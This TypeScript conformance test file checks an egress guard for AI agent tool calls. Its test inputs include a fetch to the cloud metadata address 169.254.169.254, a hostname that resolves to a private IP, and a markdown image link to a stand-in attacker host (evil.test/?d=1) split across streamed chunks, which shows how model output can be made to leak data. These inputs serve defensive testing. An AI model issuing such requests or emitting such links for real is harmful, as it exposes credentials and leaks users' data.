import type { Behaviour } from '@interpose/testing/conformance';
import { expectAnswer, question, says, theme } from '@interpose/testing/conformance/kit';

import { guardEgress } from '../../src/guard-egress/index.ts';
import { expectDeniedCall } from '../kit/expect-denied-call.ts';
import { expectOneOfTwo } from '../kit/expect-one-of-two.ts';

/** What the guard of connections owes on every SDK. */
export const guardEgressBehaviours: readonly Behaviour[] = theme('guard-egress', [
  {
    id: 'guard-egress-denies',
    title: 'a call to a private address does not run and the model learns why',
    rows: [100],
    async run(bench) {
      await expectDeniedCall(bench, {
        policy: guardEgress(),
        tool: 'fetch',
        args: { to: 'http://169.254.169.254/latest/' },
        reason: /Blocked by guard-egress: .*not public/,
      });
    },
  },
  {
    id: 'guard-egress-names',
    title: 'of two calls only the one whose name resolves to a public address runs',
    rows: [100],
    async run(bench) {
      await expectOneOfTwo(bench, {
        policy: guardEgress({ allow: ['*.example.com'], resolve }),
        tool: 'fetch',
        first: { to: 'https://a.example.com/' },
        second: { to: 'https://b.example.com/' },
        runs: 'second',
        reason: /Blocked by guard-egress/,
      });
    },
  },
  {
    id: 'guard-egress-links',
    title:
      'a picture of another host in an answer is made unreadable, also when it comes in pieces',
    rows: [100],
    async run(bench) {
      const policy = guardEgress({ allow: ['example.com'], links: 'defang' });
      const run = await bench.start({
        hooks: bench.hooks({ policies: [policy] }),
        model: [says('Done: ![x](htt', 'ps://ev', 'il.test/?d=1)', ' and https://example.com/.')],
        messages: question,
      });
      expectAnswer(run, 'Done: ![x](hxxps://evil[.]test/?d=1) and https://example.com/.');
    },
  },
]);

function resolve(name: string): string[] {
  return [name === 'a.example.com' ? '10.0.0.1' : '8.8.8.8'];
}
